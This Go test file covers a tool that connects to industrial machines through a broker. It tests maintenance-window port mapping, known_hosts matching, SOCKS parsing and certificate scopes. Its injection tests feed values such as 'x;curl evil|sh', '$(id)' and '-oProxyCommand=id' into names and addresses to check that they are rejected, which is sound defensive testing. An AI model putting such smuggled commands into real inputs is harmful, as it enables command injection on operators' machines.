package connect

import (
	"bytes"
	"encoding/json"
	"io"
	"net"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"
)

// The same windows give the same ports, in the same order, and ports of one
// number do not fight for it.
func TestWaysAreTheSameEachTime(t *testing.T) {
	a := window{Window: "W-1", Targets: []target{{Asset: "press", Port: "modbus", Number: 502}, {Asset: "filler", Port: "ssh", Account: "viewer", Number: 22},
		{Asset: "gone", Port: "modbus"}}}
	b := window{Window: "W-2", Targets: []target{{Asset: "filler", Port: "ssh", Account: "maint", Number: 22}, {Asset: "filler", Port: "modbus", Number: 502}, {Asset: "hmi", Port: "vnc", Number: 5900}}}
	var got []string
	for _, w := range waysOf([]window{a, b}, false) {
		got = append(got, w.Asset+" "+w.Port+" "+strings.Join(w.accounts, ",")+" "+strings.Join(w.windows, ",")+" "+string(rune('0'+w.local/1000)))
	}
	want := []string{"filler modbus  W-2 1", "filler ssh viewer,maint W-1,W-2 2", "hmi vnc  W-2 5", "press modbus  W-1 1"}
	if !slices.Equal(got, want) {
		t.Errorf("%q", got)
	}
	first, err := local(1502)
	if err != nil {
		t.Fatal(err)
	}
	defer first.Close()
	second, err := local(1502)
	if err != nil || first.Addr().String() == second.Addr().String() {
		t.Fatal(err)
	}
	second.Close()
}

func TestPatternsOfKnownHosts(t *testing.T) {
	for _, row := range []struct {
		patterns, host, port string
		want                 bool
	}{
		{"broker.kiel.example", "broker.kiel.example", "2222", true},
		{"Broker.kiel.example", "broker.KIEL.example", "22", true},
		{"broker.kiel.example,*.kiel", "filler-plc.kiel", "22", true},
		{"*.kiel", "kiel", "22", false},
		{"[broker]:2222", "broker", "2222", true},
		{"[broker]:2222", "broker", "22", false},
		{"*,!broker", "broker", "22", false},
		{"!other,br?ker", "broker", "22", true},
		{`b\*`, "broker", "22", false},
		{"[a-z]roker", "broker", "22", false},
		{"", "broker", "22", false},
	} {
		if got := (authority{patterns: strings.Split(row.patterns, ",")}).covers(row.host, row.port); got != row.want {
			t.Errorf("%s for %s port %s: %t", row.patterns, row.host, row.port, got)
		}
	}
}

func TestWhereTheBrokerIs(t *testing.T) {
	for in, want := range map[string]string{"broker": "broker:22", "broker:2222": "broker:2222", "[::1]:443": "[::1]:443",
		"": "", ":22": "", "ann@broker": "", "broker:0": "", "broker:x": "", "broker:70000": ""} {
		if _, got, err := (Options{Broker: in}).address(); got != want || (err == nil) == (want == "") {
			t.Errorf("%q: %q, %v", in, got, err)
		}
	}
}

// On the machine's own address where this computer has it, else the lines that
// give it to the computer; either way the port on 127.0.0.1 is there.
func TestTheMachinesOwnAddress(t *testing.T) {
	free, err := net.Listen("tcp", "127.77.1.2:0") // every 127.… address is this computer's own
	if err != nil {
		t.Fatal(err)
	}
	n := uint16(free.Addr().(*net.TCPAddr).Port)
	free.Close()
	var out bytes.Buffer
	v := &visit{say: newTeller(Options{JSON: true}, Terminal{Out: &out}), ways: []way{
		{target: target{Asset: "here", Port: "modbus", Number: 502, Address: "127.77.1.2", TCP: n}, local: n, device: true},
		{target: target{Asset: "elsewhere", Port: "modbus", Number: 502, Address: "192.0.2.7", TCP: 502}, local: n, device: true},
		{target: target{Asset: "untold", Port: "modbus", Number: 502}, local: n, device: true},
	}}
	open, err := v.listen(t.Context(), "")
	if err != nil {
		t.Fatal(err)
	}
	var at []string
	for _, l := range open {
		at = append(at, l.l.Addr().String())
		l.l.Close()
	}
	if len(at) != 4 || !slices.Contains(at, netip.AddrPortFrom(netip.MustParseAddr("127.77.1.2"), n).String()) {
		t.Errorf("listens on %q", at)
	}
	if text := out.String(); strings.Count(text, "no-device-address") != 1 || !strings.Contains(text, "elsewhere:modbus is not here as 192.0.2.7:502") {
		t.Errorf("%s", text)
	}
}

// What a broker calls its windows and machines comes into lines that are pasted
// into a shell, one of them behind sudo: nothing but names gets there.
func TestABrokersNamesAreNamesAlone(t *testing.T) {
	said := func(field, value string) string {
		w := map[string]any{"window": "W-1", "state": "open", "yours": true}
		at := map[string]any{"asset": "filler-plc", "port": "ssh", "account": "maint", "host": "filler-plc.kiel", "address": "192.0.2.7", "number": 22, "tcp": 22}
		if field == "window" {
			w[field] = value
		} else {
			at[field] = value
		}
		w["targets"] = []any{at}
		b, err := json.Marshal([]any{w})
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	for _, evil := range []string{"x;curl evil|sh", "$(id)", "`id`", "-oProxyCommand=id", "a b", "a\nb", "\x1b]0;x\a", "ä", "'"} {
		for _, field := range []string{"window", "asset", "port", "account", "host"} {
			if all, err := parseWindows([]byte(said(field, evil))); err == nil {
				t.Errorf("%s %q was taken: %+v", field, evil, all)
			}
		}
	}
	for _, address := range []string{"fe80::1%lo;curl${IFS}evil|sh", "::1%$(id)", "invalid IP", "name", ""} {
		all, err := parseWindows([]byte(said("address", address)))
		if err != nil {
			t.Fatal(err)
		}
		var out bytes.Buffer
		v := &visit{say: newTeller(Options{}, Terminal{Out: &out})}
		if l := v.onDevice(waysOf(all, true)[0]); l != nil || out.Len() > 0 {
			t.Errorf("%q: %s", address, out.String())
		}
	}
	if all, err := parseWindows([]byte(said("account", "Maint_1.x"))); err != nil || all[0].Targets[0].Address != "192.0.2.7" {
		t.Errorf("%+v, %v", all, err)
	}
}

func FuzzWindows(f *testing.F) {
	f.Add([]byte(`[{"window":"W-1","state":"open","yours":true,"left_seconds":60,"targets":[{"asset":"filler-plc","port":"ssh","account":"maint","number":22,"host":"filler-plc.kiel","address":"10.20.1.11","tcp":22}]}]`))
	f.Add([]byte(`[{"window":"W-1","targets":[{"asset":"a","port":"ssh","address":"fe80::1%;id","number":1,"tcp":22}]}]`))
	f.Add([]byte(`[{"window":"W-1;id"}]`))
	f.Add([]byte(`null`))
	f.Fuzz(func(t *testing.T, b []byte) {
		all, err := parseWindows(b)
		if err != nil {
			return
		}
		for _, w := range waysOf(all, true) {
			give, take := "", ""
			if a, err := netip.ParseAddr(w.Address); err == nil {
				give, take = aliasLines("linux", a)
			}
			if text := w.Asset + w.Port + w.Host + strings.Join(w.accounts, "") + strings.Join(w.windows, "") + give + take; strings.ContainsAny(text, ";|&$`'\"<>()*?!{}\\\n\r\x1b") {
				t.Fatalf("%q would be pasted", text)
			}
		}
	})
}

func TestWhoIsOfThisComputer(t *testing.T) {
	for _, row := range []struct {
		from, to string
		want     bool
	}{{"127.0.0.1:1", "127.0.0.1:2", true}, {"10.20.1.11:1", "10.20.1.11:502", true}, {"10.20.1.12:1", "10.20.1.11:502", false}, {"[::1]:1", "[::1]:2", true}} {
		if got := ownComputer(ends{from: row.from, to: row.to}); got != row.want {
			t.Errorf("%s to %s: %t", row.from, row.to, got)
		}
	}
}

type ends struct {
	net.Conn
	from, to string
}

func (e ends) RemoteAddr() net.Addr { return net.TCPAddrFromAddrPort(netip.MustParseAddrPort(e.from)) }
func (e ends) LocalAddr() net.Addr  { return net.TCPAddrFromAddrPort(netip.MustParseAddrPort(e.to)) }

func TestTimeLeftAsPeopleReadIt(t *testing.T) {
	for d, want := range map[time.Duration]string{0: "0:00 min", -time.Second: "0:00 min", 61 * time.Second: "1:01 min", 2*time.Hour + 5*time.Minute: "2 h 05 min"} {
		if got := spell(d); got != want {
			t.Errorf("%v: %s", d, got)
		}
	}
}

func TestAKeyIDNamesItsWindows(t *testing.T) {
	c := certificate{}
	c.Certificate = newCert("w=W-17,W-18;p=ann;c=krall")
	if !c.covers([]string{"W-18"}) || !c.covers([]string{"W-17", "W-18"}) || c.covers([]string{"W-1"}) || c.covers([]string{"W-17", "W-19"}) || c.covers(nil) {
		t.Error("a certificate covers other windows than it names")
	}
}

// duplex is a program's end of SOCKS.
type duplex struct {
	io.Reader
	io.Writer
}

func FuzzSocks(f *testing.F) {
	f.Add([]byte("\x05\x01\x00\x05\x01\x00\x03\x0afiller-plc\x01\xf6"))
	f.Add([]byte("\x05\x02\x02\x00\x05\x01\x00\x01\x0a\x14\x01\x0b\x01\xf6"))
	f.Add([]byte("\x05\x01\x00\x05\x01\x00\x04\xfd\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x01\x01\xf6"))
	f.Add([]byte("\x05\x00"))
	f.Add([]byte("\x05\xff" + strings.Repeat("\x01", 255)))
	f.Add([]byte("\x04\x01\x01\xf6\x0a\x14\x01\x0b\x00"))
	f.Add([]byte("\x05\x01\x00\x05\x03\x00\x03\x00"))
	v := &visit{ways: []way{{target: target{Asset: "filler-plc", Host: "filler-plc.kiel", Port: "modbus", Number: 502, Address: "10.20.1.11", TCP: 1502}}}}
	f.Fuzz(func(t *testing.T, b []byte) {
		var said bytes.Buffer
		w, code, err := readSocks(duplex{bytes.NewReader(b), &said})
		if err == nil && (w.Command != 1 || w.Host == "" || code != 0) {
			t.Fatalf("%+v %d", w, code)
		}
		if said.Len() > 2 {
			t.Fatalf("% x", said.Bytes())
		}
		if x, ok := v.wayTo(w); err == nil && ok && (x.Asset != "filler-plc" || w.Port != 502 && w.Port != 1502) {
			t.Fatalf("%+v leads to %+v", w, x)
		}
	})
}

func FuzzKnownHosts(f *testing.F) {
	f.Add([]byte("@cert-authority broker,*.kiel ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEB2Usr139kuZ6rYGMdLox0VMMWPU69aeVI3Cg/binFZ\n"))
	f.Add([]byte("@revoked * ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEB2Usr139kuZ6rYGMdLox0VMMWPU69aeVI3Cg/binFZ"))
	f.Add([]byte("\xff\xfe@\x00r\x00e\x00v\x00o\x00k\x00e\x00d\x00 \x00*\x00"))
	f.Add([]byte("|1|abc|def ssh-ed25519 AAAA\n@cert-authority\n@cert-authority x\n# note\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		text, _ := narrow(b)
		for _, a := range append(parseAuthorities(b), parseAuthorities(text)...) {
			if a.key == nil {
				t.Fatal("an authority without a key")
			}
			a.covers("broker", "22")
		}
	})
}

func newCert(id string) *ssh.Certificate { return &ssh.Certificate{KeyId: id} }

// A visit ends with its own windows, whatever else is heard of.
func TestAnotherWindowsEndIsNotTheVisits(t *testing.T) {
	var out bytes.Buffer
	var why error
	v := &visit{say: newTeller(Options{}, Terminal{Out: &out}), o: Options{Windows: []string{"W-1"}}, over: map[string]string{}, cancel: func(err error) { why = err }}
	v.heard(window{Window: "W-9", State: "cut"})
	if why != nil || len(v.over) > 0 {
		t.Errorf("another's end: %v, %v", why, v.over)
	}
	v.heard(window{Window: "W-1", State: "ended"})
	if why == nil {
		t.Error("its own end is not heard")
	}
}
